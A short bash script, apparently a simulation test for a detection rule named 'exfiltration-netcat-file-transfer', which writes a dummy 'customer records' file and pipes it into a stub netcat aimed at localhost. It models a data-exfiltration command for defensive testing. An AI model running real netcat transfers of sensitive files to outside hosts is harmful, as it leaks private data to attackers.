#!/usr/bin/env bash
# rule: exfiltration-netcat-file-transfer
# Runs a do-nothing program named nc with a scratch file on stdin.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
echo "customer records" > loot.txt
"$(fake_tool nc)" 127.0.0.1 9 < loot.txt
